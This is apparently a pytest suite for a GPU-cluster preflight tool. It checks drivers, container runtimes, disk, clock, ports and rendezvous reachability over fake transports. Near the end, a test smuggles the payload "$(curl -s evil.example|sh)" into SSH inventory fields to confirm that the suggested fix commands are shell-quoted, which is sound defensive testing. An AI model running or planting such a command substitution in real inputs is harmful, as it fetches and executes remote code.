"""run_preflight over fake transports: per-host checks, cluster checks, round trips, JSON shape, exit codes."""
from __future__ import annotations

import dataclasses
import json

import pytest

from clusterctl.checks import LAUNCH_CHECKS, PreflightJob, PreflightOptions, exit_code, run_preflight  # noqa: E402
from clusterctl.config.inventory import Host  # noqa: E402
from clusterctl.errors import AuthError, CommandTimeout, ConnectError, HostKeyError, UserError  # noqa: E402
from tests.fakes.checks import FakeHost, FakeTransport, sections_for, serial_fan_out, smi_rows  # noqa: E402

NOW = 1_717_000_000.0


class Clock:
    def __init__(self):
        self.t = NOW

    def __call__(self):
        self.t += 0.001
        return self.t


def cluster(n=2, runtime="podman", gpus=8, **over_by_host):
    hosts = [Host(name=f"node{i + 1}", address=f"10.77.0.{11 + i}", runtime=runtime, gpus=gpus) for i in range(n)]
    fakes = {h.name: FakeHost(sections_for(h.address, f"node{i + 1}", runtime=runtime, gpus=gpus))
             for i, h in enumerate(hosts)}
    for name, changes in over_by_host.items():
        for k, v in changes.items():
            if k == "sections":
                fakes[name].sections.update(v)
            else:
                setattr(fakes[name], k, v)
    return hosts, fakes


def run(hosts, fakes, job=None, **kw):
    clock = Clock()
    world = {"nonce": "n0nce", "peers": sum(1 for h in hosts[1:] if fakes[h.name].reachable)}

    def connect(host):
        f = fakes[host.name]
        if f.connect_error is not None:
            raise f.connect_error
        return FakeTransport(host, f, world, clock)

    report = run_preflight(hosts, connect=connect, job=job, fan_out=serial_fan_out, clock=clock, nonce="n0nce",
                           **kw)
    return report, world


def check(report, host, cid):
    return report.host(host).get(cid)


def cl(report, cid):
    return next(c for c in report.cluster if c.id == cid)


JOB = PreflightJob(checkpoint_dir="/shared/ckpt")


def test_healthy_cluster_passes_in_two_round_trips_per_host():
    hosts, fakes = cluster(3)
    report, world = run(hosts, fakes, JOB)
    assert report.ok, report.failures()
    assert report.summary["fail"] == 0 and report.summary["warn"] == 0
    assert {c.status for h in report.hosts for c in h.checks} == {"pass"}
    assert [c.id for c in report.cluster] == ["rendezvous_reachable", "shared_storage", "consistency", "hostnames",
                                              "rendezvous_exposure"]
    assert all(c.status == "pass" for c in report.cluster)
    assert all(len(f.calls) <= 2 for f in fakes.values())
    assert world.get("removed")                       # the listener removed the nonce file
    assert report.interfaces() == {"node1": "eth0", "node2": "eth0", "node3": "eth0"}
    assert exit_code(report) == 0 and exit_code(report, strict=True) == 0


def test_json_shape_is_exactly_the_contract():
    hosts, fakes = cluster(2)
    doc = json.loads(run(hosts, fakes, JOB)[0].to_json())
    assert set(doc) == {"ok", "hosts", "cluster", "summary", "duration_s"}
    assert set(doc["hosts"][0]) == {"host", "address", "checks"}
    assert set(doc["hosts"][0]["checks"][0]) == {"id", "status", "detail", "hint", "data"}
    assert set(doc["cluster"][0]) == {"id", "status", "detail", "hint", "hosts"}
    assert set(doc["summary"]) == {"pass", "warn", "fail", "skip"}
    assert isinstance(doc["duration_s"], float)
    assert doc["hosts"][0]["address"] == "10.77.0.11"


def test_launch_subset_is_one_round_trip_and_runs_only_the_exposure_cluster_check():
    hosts, fakes = cluster(2)
    report, _ = run(hosts, fakes, JOB, only=LAUNCH_CHECKS)
    assert [c.id for c in report.hosts[0].checks] == ["ssh", "gpu_driver", "gpu_count", "gpu_health",
                                                      "container_runtime", "nvidia_toolkit", "image", "ports",
                                                      "interface"]
    assert [(c.id, c.status) for c in report.cluster] == [("rendezvous_exposure", "pass")]
    assert all(len(f.calls) == 1 for f in fakes.values())
    script = fakes["node1"].calls[0][-1]      # the GPU checks ride in the same round trip (issue 35 item 5)
    assert "b nvidia_smi;" in script and "b cuda_init;" in script and "b xid;" in script
    assert "b df_checkpoint;" not in script and "b timedatectl;" not in script
    assert report.interfaces() == {"node1": "eth0", "node2": "eth0"}


def test_unknown_check_id_is_a_user_error():
    hosts, fakes = cluster(1)
    with pytest.raises(UserError, match="unknown preflight check"):
        run(hosts, fakes, only={"gpu"})


@pytest.mark.parametrize("err, hint", [
    (HostKeyError("node2", "unknown host key SHA256:abc"), "ssh-keyscan"),
    (AuthError("node2", "authentication failed"), "without a password"),
    (ConnectError("node2", "connection refused"), "sshd listens"),
])
def test_connection_failures_fail_ssh_and_skip_the_rest(err, hint):
    hosts, fakes = cluster(2, node2={"connect_error": err})
    report, _ = run(hosts, fakes, JOB)
    ssh = check(report, "node2", "ssh")
    assert ssh.status == "fail" and ssh.detail == err.message and hint in ssh.hint
    assert ssh.data["error"] == err.kind
    assert {c.status for c in report.host("node2").checks[1:]} == {"skip"}
    assert not report.ok and exit_code(report) == 1
    assert cl(report, "rendezvous_reachable").status == "skip"


def test_probe_timeout_is_an_ssh_failure():
    hosts, fakes = cluster(1, node1={"run_error": CommandTimeout("node1", "command timed out after 60s")})
    report, _ = run(hosts, fakes)
    assert check(report, "node1", "ssh").status == "fail"
    assert "nvidia-smi" in check(report, "node1", "ssh").hint


def test_driver_library_mismatch():
    hosts, fakes = cluster(1, node1={"sections": {
        "nvidia_smi": ("Failed to initialize NVML: Driver/library version mismatch", 18)}})
    report, _ = run(hosts, fakes)
    c = check(report, "node1", "gpu_driver")
    assert c.status == "fail" and "Driver/library version mismatch" in c.detail and "reboot" in c.hint
    assert check(report, "node1", "gpu_count").status == "skip"
    assert check(report, "node1", "gpu_health").status == "skip"


@pytest.mark.parametrize("image, driver, status", [
    ("pytorch-cuda:v2.7-ssh", "470.82.01", "fail"),
    ("pytorch-cuda:v2.7-ssh", "525.60.13", "pass"),
    ("pytorch/pytorch:2.1.0-cuda11.8-cudnn8-runtime", "470.82.01", "pass"),
    ("pytorch/pytorch:2.1.0-cuda11.8-cudnn8-runtime", "450.51.06", "fail"),
    ("my/unknown:latest", "520.61.05", "fail"),
    ("ghcr.io/x/train:cu121", "530.30.02", "pass"),
])
def test_minimum_driver_by_image(image, driver, status):
    hosts, fakes = cluster(1, node1={"sections": {"nvidia_smi": (smi_rows(8, driver=driver), 0)}})
    c = check(run(hosts, fakes, PreflightJob(image=image))[0], "node1", "gpu_driver")
    assert c.status == status, c.detail
    if status == "fail":
        assert "older than" in c.detail and "upgrade the NVIDIA driver" in c.hint


def test_gpu_count_against_inventory_and_nproc():
    hosts, fakes = cluster(1, node1={"sections": {"nvidia_smi": (smi_rows(7), 0)}})
    c = check(run(hosts, fakes)[0], "node1", "gpu_count")
    assert c.status == "fail" and "7 GPUs visible, inventory says 8" in c.detail and c.data["count"] == 7
    hosts, fakes = cluster(1, gpus=4, node1={"sections": {"nvidia_smi": (smi_rows(4), 0)}})
    c = check(run(hosts, fakes, PreflightJob(nproc_per_node=8))[0], "node1", "gpu_count")
    assert c.status == "fail" and "nproc_per_node=8" in c.detail


def test_gpu_health_ecc_fails_retired_pages_warn():
    rows = smi_rows(8, ecc=[0, 0, 5, 0, 0, 0, 0, 0])
    hosts, fakes = cluster(1, node1={"sections": {"nvidia_smi": (rows, 0)}})
    c = check(run(hosts, fakes)[0], "node1", "gpu_health")
    assert c.status == "fail" and "GPU 2: 5" in c.detail and "nvidia-smi -r -i 2" in c.hint
    rows = smi_rows(8, retired=[False, True] + [False] * 6)
    hosts, fakes = cluster(1, node1={"sections": {"nvidia_smi": (rows, 0)}})
    report = run(hosts, fakes)[0]
    assert check(report, "node1", "gpu_health").status == "warn"
    assert report.ok and exit_code(report) == 0 and exit_code(report, strict=True) == 1


def test_cpu_host_skips_gpu_checks_and_never_runs_nvidia_smi():
    hosts, fakes = cluster(1, gpus=0)
    report, _ = run(hosts, fakes)
    for cid in ("gpu_driver", "gpu_count", "gpu_health", "nvidia_toolkit"):
        assert check(report, "node1", cid).status == "skip"
    assert "nvidia-smi" not in fakes["node1"].calls[0][-1]


def test_docker_without_nvidia_runtime_hints_the_configure_command():
    info = '{"ServerVersion": "24.0.7", "DockerRootDir": "/var/lib/docker", "Runtimes": {"runc": {}}}'
    hosts, fakes = cluster(1, runtime="docker", node1={"sections": {"runtime_info": (info, 0)}})
    c = check(run(hosts, fakes)[0], "node1", "nvidia_toolkit")
    assert c.status == "fail" and "nvidia-ctk runtime configure --runtime=docker" in c.hint


def test_docker_daemon_down_and_permission_denied():
    down = '{"ServerVersion": ""}\nCannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?'
    hosts, fakes = cluster(1, runtime="docker", node1={"sections": {"runtime_info": (down, 1)}})
    report = run(hosts, fakes)[0]
    c = check(report, "node1", "container_runtime")
    assert c.status == "fail" and "Cannot connect" in c.detail and "systemctl" in c.hint
    assert check(report, "node1", "image").status == "skip"
    denied = "permission denied while trying to connect to the Docker daemon socket at unix:///var/run/docker.sock"
    hosts, fakes = cluster(1, runtime="docker", node1={"sections": {"runtime_info": (denied, 1)}})
    assert "usermod -aG docker" in check(run(hosts, fakes)[0], "node1", "container_runtime").hint


def test_podman_without_cdi_and_missing_toolkit():
    hosts, fakes = cluster(1, node1={"sections": {"cdi_list": ("INFO[0000] Found 0 CDI devices", 0)}})
    c = check(run(hosts, fakes)[0], "node1", "nvidia_toolkit")
    assert c.status == "fail" and "nvidia-ctk cdi generate --output=/etc/cdi/nvidia.yaml" in c.hint
    hosts, fakes = cluster(1, node1={"sections": {"nvidia_ctk": ("sh: 1: nvidia-ctk: not found", 127)}})
    c = check(run(hosts, fakes)[0], "node1", "nvidia_toolkit")
    assert c.status == "fail" and "not found" in c.detail and "install nvidia-container-toolkit" in c.hint


def test_image_missing_and_pull():
    missing = ("Error: inspecting object: pytorch-cuda:v2.7-ssh: image not known", 125)
    hosts, fakes = cluster(1, node1={"sections": {"image": missing}})
    report = run(hosts, fakes)[0]
    c = check(report, "node1", "image")
    assert c.status == "fail" and "podman pull pytorch-cuda:v2.7-ssh" in c.hint
    hosts, fakes = cluster(1)
    c = check(run(hosts, fakes, options=PreflightOptions(pull=True))[0], "node1", "image")
    assert c.status == "pass" and c.data["digest"] == "sha256:" + "cd" * 32
    assert "podman pull -q -- pytorch-cuda:v2.7-ssh" in fakes["node1"].calls[0][-1]


def test_bare_runtime_skips_container_checks():
    hosts, fakes = cluster(1, runtime="bare")
    report = run(hosts, fakes)[0]
    for cid in ("container_runtime", "nvidia_toolkit", "image"):
        assert check(report, "node1", cid).status == "skip"
    assert check(report, "node1", "disk").status == "skip"     # no job: no checkpoint dir, no container storage


def test_busy_rendezvous_port_fails_and_skips_the_reachability_test():
    hosts, fakes = cluster(2, node1={"sections": {"ss": ("LISTEN 0 128 [::]:29400 [::]:*", 0)}})
    report, _ = run(hosts, fakes, JOB)
    c = check(report, "node1", "ports")
    assert c.status == "fail" and "[::]:29400" in c.detail and "ss -ltnp" in c.hint
    assert cl(report, "rendezvous_reachable").status == "skip"
    assert cl(report, "shared_storage").status == "pass"
    assert len(fakes["node1"].calls) == 2                      # probe + nonce cleanup, still two


@pytest.mark.parametrize("avail, size, status", [
    (400 * 2**30, 1000 * 2**30, "pass"),
    (60 * 2**30, 1000 * 2**30, "pass"),       # 6% but 60 GiB: fine
    (40 * 2**30, 1000 * 2**30, "warn"),       # 4% and < 50 GiB
    (40 * 2**30, 100 * 2**30, "pass"),        # 40% of a small disk: fine
    (4 * 2**30, 8 * 2**30, "fail"),           # < 5 GiB
    (10 * 2**30, 1000 * 2**30, "fail"),       # < 2%
])
def test_disk_thresholds(avail, size, status):
    df = ("Filesystem 1-blocks Used Available Capacity Mounted on\n"
          f"/dev/x {size} {size - avail} {avail} 50% /shared")
    hosts, fakes = cluster(1, node1={"sections": {"df_checkpoint": (df, 0)}})
    c = check(run(hosts, fakes, JOB)[0], "node1", "disk")
    assert c.status == status, c.detail
    if status != "pass":
        assert c.hint


@pytest.mark.parametrize("skew, status", [(0.0, "pass"), (2.0, "warn"), (-30.0, "fail")])
def test_clock_offset(skew, status):
    hosts, fakes = cluster(1, node1={"clock_skew": skew})
    c = check(run(hosts, fakes)[0], "node1", "clock")
    assert c.status == status and abs(c.data["offset_s"] - skew) < 0.05


def test_clock_ntp_unsynchronized_warns_and_missing_timedatectl_is_tolerated():
    hosts, fakes = cluster(1, node1={"sections": {"timedatectl": ("no", 0)}})
    assert check(run(hosts, fakes)[0], "node1", "clock").status == "warn"
    hosts, fakes = cluster(1, node1={"sections": {"timedatectl": ("System has not been booted with systemd", 1)}})
    assert check(run(hosts, fakes)[0], "node1", "clock").status == "pass"


def test_interface_down_missing_and_explicit():
    down = ("2: eth0: <NO-CARRIER,BROADCAST,MULTICAST,UP> mtu 1500 qdisc mq state DOWN mode DEFAULT\\    link/ether x", 0)
    hosts, fakes = cluster(1, node1={"sections": {"ip_link": down}})
    report = run(hosts, fakes)[0]
    assert check(report, "node1", "interface").status == "fail" and report.interfaces() == {}
    hosts, fakes = cluster(1, node1={"sections": {"ip_addr": ("1: lo    inet 127.0.0.1/8 scope host lo", 0),
                                                  "ssh_conn": ("", 0)}})
    c = check(run(hosts, fakes)[0], "node1", "interface")
    assert c.status == "fail" and "clusterctl_interface" in c.hint
    hosts, fakes = cluster(1)
    hosts = [Host(name="node1", address="10.77.0.11", runtime="podman", gpus=8, interface="eth0")]
    assert run(hosts, fakes)[0].interfaces() == {"node1": "eth0"}


def test_interface_found_through_dns_name():
    hosts, fakes = cluster(1, node1={"sections": {"getent": ("10.77.0.11      node1.cluster", 0)}})
    hosts = [Host(name="node1", address="node1.cluster", runtime="podman", gpus=8)]
    report = run(hosts, fakes)[0]
    assert check(report, "node1", "interface").status == "pass"
    assert "getent hosts node1.cluster" in fakes["node1"].calls[0][-1]


def test_rendezvous_unreachable_from_one_peer():
    hosts, fakes = cluster(3, node3={"reachable": False})
    report, world = run(hosts, fakes, JOB)
    c = cl(report, "rendezvous_reachable")
    assert c.status == "fail" and c.hosts == ("node3",) and "Connection refused" in c.detail
    assert "10.77.0.11:29400" in c.detail and "firewall" in c.hint
    assert world.get("removed")                      # nonce cleaned up by the extra rm


def test_storage_not_shared():
    hosts, fakes = cluster(3, node2={"shared": False})
    c = cl(run(hosts, fakes, JOB)[0], "shared_storage")
    assert c.status == "fail" and c.hosts == ("node2",) and "/shared/ckpt" in c.detail and "mount" in c.hint


def test_shared_storage_skipped_without_checkpoint_dir():
    hosts, fakes = cluster(2)
    report, _ = run(hosts, fakes)
    assert cl(report, "shared_storage").status == "skip"
    assert cl(report, "rendezvous_reachable").status == "pass"


def test_consistency_and_duplicate_hostnames():
    hosts, fakes = cluster(3, node3={"sections": {"nvidia_smi": (smi_rows(8, driver="535.104.05"), 0),
                                                  "hostname": ("node1", 0)}})
    report, _ = run(hosts, fakes, JOB)
    c = cl(report, "consistency")
    assert c.status == "warn" and c.hosts == ("node3",) and "535.104.05" in c.detail
    h = cl(report, "hostnames")
    assert h.status == "fail" and set(h.hosts) == {"node1", "node3"}


def test_rendezvous_exposure_warns_on_a_public_address():
    extra = ("1: lo    inet 127.0.0.1/8 scope host lo\n2: eth0    inet 10.77.0.11/24 scope global eth0\n"
             "3: eno1    inet 203.0.113.10/24 scope global eno1", 0)
    hosts, fakes = cluster(2, node1={"sections": {"ip_addr": extra}})
    c = cl(run(hosts, fakes, JOB)[0], "rendezvous_exposure")
    assert c.status == "warn" and "203.0.113.10" in c.detail and "firewall" in c.hint


def test_single_host_skips_traffic_checks_with_one_round_trip():
    hosts, fakes = cluster(1)
    report, _ = run(hosts, fakes, JOB)
    assert cl(report, "rendezvous_reachable").status == "skip"
    assert cl(report, "shared_storage").status == "skip"
    assert len(fakes["node1"].calls) == 1


def test_every_warn_and_fail_has_a_one_line_hint():
    hosts, fakes = cluster(3, node2={"sections": {"nvidia_smi": ("Failed to initialize NVML: Driver/library version "
                                                                 "mismatch", 18), "image": ("Error: no such image", 1),
                                                  "timedatectl": ("no", 0)}},
                           node3={"reachable": False, "shared": False})
    report, _ = run(hosts, fakes, JOB)
    problems = report.failures()
    assert problems
    for _, c in problems:
        assert c.hint and "\n" not in c.hint


def test_progress_callback_and_transports_closed():
    hosts, fakes = cluster(2)
    seen = []
    closed = []
    clock = Clock()
    world = {"nonce": "n0nce", "peers": 1}

    def connect(h):
        t = FakeTransport(h, fakes[h.name], world, clock)
        closed.append(t)
        return t

    run_preflight(hosts, connect=connect, job=JOB, fan_out=serial_fan_out, clock=clock, nonce="n0nce",
                  progress=lambda done, total, label: seen.append((done, total, label)))
    assert seen == [(1, 3, "node1"), (2, 3, "node2"), (3, 3, "cluster checks")]
    assert all(t.closed for t in closed)


def test_job_from_spec_duck_typing():
    class R:
        port = 29500

    class C:
        dir = "/mnt/ckpt"

    class Spec:
        image = "img:cu118"
        nproc_per_node = 4
        rendezvous = R()
        checkpoint = C()

    j = PreflightJob.from_spec(Spec())
    assert j == PreflightJob(image="img:cu118", nproc_per_node=4, rdzv_port=29500, checkpoint_dir="/mnt/ckpt")
    assert PreflightJob.from_spec({"image": None}) == PreflightJob()
    hosts, fakes = cluster(1)
    report, _ = run(hosts, fakes, Spec())
    assert check(report, "node1", "ports").data["ports"] == [29500]


def test_render_table_shows_cells_problems_and_summary():
    from rich.console import Console

    from clusterctl.checks import render_table

    hosts, fakes = cluster(2, node2={"sections": {"image": ("Error: No such image: pytorch-cuda:v2.7-ssh", 1)}})
    report, _ = run(hosts, fakes, JOB)
    console = Console(record=True, width=250, color_system=None)
    render_table(report, console)
    text = console.export_text()
    assert "node1" in text and "✓" in text and "✗" in text
    assert "node2 image: pytorch-cuda:v2.7-ssh is not present on the host" in text
    assert "→ `podman pull pytorch-cuda:v2.7-ssh` on the host" in text
    assert "preflight failed" in text and "1 failed" in text
    for warns, said in ((1, "1 warning, "), (2, "2 warnings, ")):      # it said "1 warnings"
        console = Console(record=True, width=250, color_system=None)
        render_table(dataclasses.replace(report, summary={**report.summary, "warn": warns}), console)
        assert f"passed, {said}" in console.export_text()


def test_options_only_behaves_like_only():
    hosts, fakes = cluster(1)
    report, _ = run(hosts, fakes, options=PreflightOptions(only=frozenset({"ports"})))
    assert [c.id for c in report.hosts[0].checks] == ["ssh", "ports"]


@pytest.mark.parametrize("address,status", [("203.0.113.7", "warn"), ("8.8.4.4", "warn"), ("2001:db8::7", "warn"),
                                            ("10.77.0.11", "pass"), ("172.20.0.5", "pass"), ("192.168.1.9", "pass"),
                                            ("fd00::5", "pass")])
def test_launch_warns_when_the_rendezvous_address_is_not_private(address, status):
    """Issue 11 item 5: the cluster NIC itself carries a public address (no second NIC): launch's checks warn."""
    from tests.fakes.checks import sections_for as sf

    hosts = [Host(name="node1", address=address, runtime="podman", gpus=8),
             Host(name="node2", address="10.77.0.12", runtime="podman", gpus=8)]
    fakes = {"node1": FakeHost(sf(address, "node1", runtime="podman", gpus=8)),
             "node2": FakeHost(sf("10.77.0.12", "node2", runtime="podman", gpus=8))}
    report, _ = run(hosts, fakes, JOB, only=LAUNCH_CHECKS)
    c = cl(report, "rendezvous_exposure")
    assert c.status == status, c
    if status == "warn":
        assert address in c.detail and "not private" in c.detail and report.ok     # a warning, not a failure


EVIL = "$(curl -s evil.example|sh)"


@pytest.mark.parametrize("err", [HostKeyError("n1", "unknown host key SHA256:abc"),
                                 AuthError("n1", "authentication failed"), ConnectError("n1", "refused"),
                                 RuntimeError("odd")])
@pytest.mark.parametrize("jump", [None, f"{EVIL}@bastion:2222"])
def test_ssh_fix_hints_quote_every_inventory_value(err, jump):
    """Issue 24 item 9: a hint's command, pasted into a shell, never runs what an inventory value holds."""
    import re
    import shlex

    from clusterctl.checks.system import ssh_hint
    from clusterctl.config.inventory import Host

    host = Host(name="n1", address="10.0.0.1", port=2200, user=EVIL, known_hosts=f"/tmp/{EVIL}/kh",
                proxy_jump=jump)
    hint = ssh_hint(err, host)
    commands = re.findall(r"`([^`]*)`", hint)
    assert commands
    for command in commands:
        assert "$(" in command or command == "ssh-keygen -R"
        assert not unquoted_substitution(command), command
    if isinstance(err, HostKeyError):
        assert shlex.split(commands[0])[-2:] == [">>", f"/tmp/{EVIL}/kh"]


def unquoted_substitution(command: str) -> bool:
    """Whether ``$(`` occurs outside single quotes (what shlex.quote uses) in ``command``."""
    quoted = False
    for i, c in enumerate(command):
        if c == "'":
            quoted = not quoted
        elif c == "$" and command[i + 1:i + 2] == "(" and not quoted:
            return True
    return False
